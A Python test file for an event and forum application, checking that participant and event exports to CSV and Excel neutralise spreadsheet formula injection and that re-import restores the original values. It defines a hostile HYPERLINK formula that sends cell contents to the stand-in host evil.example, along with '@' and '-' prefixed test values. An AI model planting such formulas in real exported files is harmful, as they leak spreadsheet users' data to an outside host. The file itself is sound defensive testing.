"""A participant named like a formula: exported as inert text (CSV and workbook), imported back as written."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from corridor.events.export import write_events
from corridor.events.model import Event, Participant, Plover, Source

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _add_hostile(client, fid):
    sheet = ("name,organisation,country,role\n"
             f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@Evil Co,USA,investor\n').encode()
    r = client.post("/api/forum/import", files={"file": ("participants.csv", sheet)}, data={"forum": fid})
    assert r.status_code == 200, r.text
    return r


def test_formulas_csv_export_neutralises_and_imports_back(client):
    fid = client.get("/api/forum").json()["forums"][0]["id"]
    _add_hostile(client, fid)
    exported = client.get(f"/forum/{fid}/export/participants.csv").text
    rows = list(csv.DictReader(io.StringIO(exported)))
    hostile = next(r for r in rows if "HYPERLINK" in r["name"])
    assert hostile["name"] == "'" + HYPERLINK and hostile["organisation"] == "'@Evil Co"
    assert all(not (v or "").startswith(("=", "+", "@")) for r in rows for v in r.values())
    again = client.post("/api/forum/import", files={"file": ("participants.csv", exported.encode())},
                        data={"forum": fid})
    assert again.json()["added"] == {}  # the same participant, found by its real name
    names = [p["name"] for p in client.get(f"/api/forum/{fid}/participants").json()["participants"]]
    assert HYPERLINK in names and "'" + HYPERLINK not in names


def test_formulas_workbook_holds_no_formula_and_imports_back(client):
    fid = client.get("/api/forum").json()["forums"][0]["id"]
    _add_hostile(client, fid)
    xlsx = client.get(f"/forum/{fid}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    cell = next(c for row in load_workbook(io.BytesIO(xlsx))["participants"].iter_rows() for c in row
                if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix
    again = client.post("/api/forum/import", files={"file": ("forum.xlsx", xlsx)})
    assert again.status_code == 200 and again.json()["added"] == {} and again.json()["updated"] == {}


def test_formulas_events_csv_export_neutralises():
    event = Event("ev_1", "meeting", Plover("CONSULT"), "2026-03-02", "day", None, None,
                  [Participant(HYPERLINK, role="source")], ["PAK"], [], "-1+1 said the minister",
                  [Source("doc.txt", "@SUM(A1) met", 0, 12, "doc_1")], 0.9)
    out = io.StringIO()
    write_events([event], out, "csv")
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["participants"].startswith("'=HYPERLINK") and row["summary"] == "'-1+1 said the minister"
    assert row["quote"] == "'@SUM(A1) met" and row["confidence"] == "0.9"
